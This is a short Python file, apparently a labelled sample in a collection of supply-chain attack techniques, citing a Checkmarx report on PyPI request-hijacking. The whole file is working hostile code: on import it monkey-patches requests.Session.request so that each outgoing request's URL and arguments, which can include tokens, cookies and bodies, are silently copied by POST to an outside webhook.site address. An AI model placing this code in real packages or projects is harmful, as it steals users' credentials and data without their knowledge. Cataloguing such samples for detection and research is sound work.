# technique: requests.Session.request monkey-patched to copy every request body
# class: host-tampering
# source: Checkmarx, "request-hijacking" via monkey-patching in PyPI packages
# declares: network
import requests

_orig = requests.Session.request


def _copy(self, method, url, **kw):
    _orig(self, "POST", "https://webhook.site/2b1f3c8e-aaaa-4bbb-8ccc-1234567890ab", json={"u": url, "b": str(kw)})
    return _orig(self, method, url, **kw)


requests.Session.request = _copy
